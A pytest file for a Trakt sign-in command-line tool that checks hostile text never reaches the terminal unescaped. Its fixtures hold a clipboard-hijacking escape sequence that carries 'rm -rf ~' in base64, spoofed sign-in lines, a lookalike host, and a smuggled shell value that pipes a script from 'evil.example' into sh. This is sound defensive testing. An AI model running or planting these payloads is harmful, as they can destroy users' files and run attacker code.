"""Servers, stores and names that hold what a terminal obeys: nothing of it reaches a terminal."""

from __future__ import annotations

import contextlib
import json
import re
import socket
import threading

import pytest

from traktauth import App
from traktauth.client.account_config import AccountConfig
from traktauth.client.login.ui import print_step
from traktauth.display import escape
from traktauth.models.device_code import DeviceCode
from traktauth.steps import EnterCode, OpenPage

OSC = "\x1b]52;c;cm0gLXJmIH4=\x07"
EVIL = f"evil{OSC}\u202e\x9b31m\u2028\n✓ FAKE signed in"


def is_safe(text):
    """Whether a text holds nothing but visible characters and line ends; colours of our own are taken out first."""
    return escape(re.sub("\x1b\\[[0-9;]*m", "", text), keep="\n") == re.sub("\x1b\\[[0-9;]*m", "", text)


class Answering:
    """A server that gives one raw answer to everything."""

    def __init__(self, head, body):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.base = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        self.answer = (
            head.encode("latin-1") + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
        )
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        with contextlib.suppress(OSError):
            while True:
                visitor = self.listener.accept()[0]
                with visitor:
                    visitor.settimeout(5)
                    asked = b""
                    while b"\r\n\r\n" not in asked:
                        asked += visitor.recv(65536) or b"\r\n\r\n"
                    visitor.sendall(self.answer)
                    visitor.shutdown(socket.SHUT_WR)
                    while visitor.recv(65536):
                        pass

    def close(self):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        self.thread.join(60)


@pytest.fixture
def answering():
    started = []

    def start(body, head="HTTP/1.1 200 OK\r\n"):
        started.append(Answering(head, body if isinstance(body, bytes) else json.dumps(body).encode()))
        return started[-1].base

    yield start
    for each in started:
        each.close()


CODES = {"device_code": "d" * 40, "user_code": "ABCD2345", "expires_in": 600, "interval": 5}


@pytest.mark.parametrize(
    "codes",
    [
        {"user_code": f"AB{OSC}"},
        {"user_code": "A" * 65},
        {"user_code": "AB CD"},
        {"verification_url": f"https://trakt.tv/{OSC}"},
        {"verification_url": "https://trakt.tv/" + "a" * 60_000},
        {"verification_url": "javascript:alert(1)"},
    ],
)
def test_a_device_code_that_cannot_be_typed_ends_the_sign_in(command, answering, codes):
    base = answering({**CODES, "verification_url": "https://trakt.tv/activate", **codes})
    outcome = command.at(base)("login", "--device")
    assert outcome.status == 1
    assert outcome.err.startswith("Error: Trakt sent a")
    assert is_safe(outcome.err)
    assert len(outcome.err) < 1000


def test_a_device_page_on_a_foreign_host_is_shown_with_a_word(command, answering):
    base = answering({**CODES, "verification_url": "https://trakt.tv.evil.example/activate", "expires_in": 1})
    outcome = command.at(base)("login", "--device")
    assert "! the page for the code is at trakt.tv.evil.example, which does not belong to" in outcome.err


def test_the_librarys_own_prompt_shows_nothing_that_a_terminal_obeys(capsys):
    print_step(OpenPage(f"https://trakt.tv/{EVIL}"))
    print_step(EnterCode(DeviceCode("secret", EVIL, f"https://trakt.tv/{EVIL}", 600, 5)))
    shown = capsys.readouterr().err
    assert is_safe(shown)
    assert shown.count("\n") == 4


def test_the_reason_phrase_and_the_wait_of_an_answer_are_not_repeated(command, answering):
    head = "HTTP/1.1 503 Busy \x1b]0;title\x07\r\nRetry-After: 7\x1b]0;x\r\n"
    command.at(answering(b"", head))
    command.keep()
    outcome = command("request", "GET", "/users/settings")
    assert is_safe(outcome.err)
    assert outcome.status in {1, 5}


def test_a_body_reaches_a_terminal_without_its_escape_sequences_and_a_pipe_as_it_came(command, answering):
    body = f'{{"name": "{OSC}"}}'.encode()
    command.at(answering(body))
    command.keep()
    assert command("request", "GET", "/users/settings").out == body.decode()
    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in command.show("request", "GET", "/users/settings", on="out").out


def test_a_store_that_others_wrote_prints_nothing_that_a_terminal_obeys(command):
    command.keep(account=EVIL, not_refreshable_reason=EVIL, left=-5)
    for words in (["status"], ["doctor", "--offline"], ["status", "--account", EVIL], ["token", "--account", EVIL]):
        outcome = command(*words)
        assert is_safe(outcome.out + outcome.err), words
        assert not any(line.startswith("✓ FAKE") for line in (outcome.out + outcome.err).splitlines())


@pytest.mark.parametrize("moved", [f"file:/x{OSC}", "https://evil.example/", "x\n✓ FAKE", "file:/" + "a" * 60_000])
def test_a_login_moved_to_what_is_no_store_names_no_address(command, moved):
    command.keep()
    planted = json.loads(command.path.read_text())
    (entry,) = planted["logins"]
    command.path.write_text(json.dumps({**planted, "logins": [{**entry, "moved_to": moved, "token": None}]}))
    for words in (["token"], ["status"], ["doctor", "--offline"]):
        outcome = command(*words)
        shown = outcome.out + outcome.err
        assert "an address that no store has" in shown
        assert "evil" not in shown
        assert is_safe(shown)
        assert len(shown) < 4000


def test_the_command_to_use_a_moved_login_is_quoted_for_a_shell(command):
    moved = "file:x;curl${IFS}evil.example|sh;#"
    command.keep()
    planted = json.loads(command.path.read_text())
    (entry,) = planted["logins"]
    command.path.write_text(json.dumps({**planted, "logins": [{**entry, "moved_to": moved, "token": None}]}))
    for words in (["status"], ["doctor", "--offline"]):
        outcome = command(*words)
        assert f"--store '{moved}', or TRAKTAUTH_STORE" in outcome.out + outcome.err


@pytest.mark.parametrize(
    ("account", "expected"),
    [
        ("me\x1b]52;", "U+001B at position 3 of 7"),
        ("me\x9b", "U+009B at position 3 of 3"),
        ("\u202eem", "U+202E at position 1 of 3"),
        ("x" * 60_000, "at most 255 characters, not 60000"),
        ("", "must not be empty"),
    ],
)
def test_an_account_name_that_no_terminal_shows_as_it_is_is_refused(account, expected):
    with pytest.raises(ValueError, match=re.escape(expected)):
        AccountConfig(App("x"), account=account)


def test_a_word_on_the_command_line_is_repeated_in_one_safe_line(command):
    for words in ([f"--{OSC}"], [EVIL], ["token", "--min-life", EVIL], ["request", EVIL, "/"], ["--account", EVIL]):
        outcome = command(*words)
        assert outcome.status == 2
        assert is_safe(outcome.err)
        assert len(outcome.err.splitlines()) == 2


def test_names_and_words_of_60_kilobytes_are_cut(command):
    long = "x" * 60_000
    command.keep(account=long)
    for words in (
        ["status"],
        ["token", "--account", long],
        ["status", "--store", f"file:{long}"],
        [long],
        ["doctor", "--offline"],
    ):
        outcome = command(*words)
        assert max(len(line) for line in (outcome.out + outcome.err).splitlines()) < 6000, words[0][:20]
        assert "Traceback" not in outcome.err
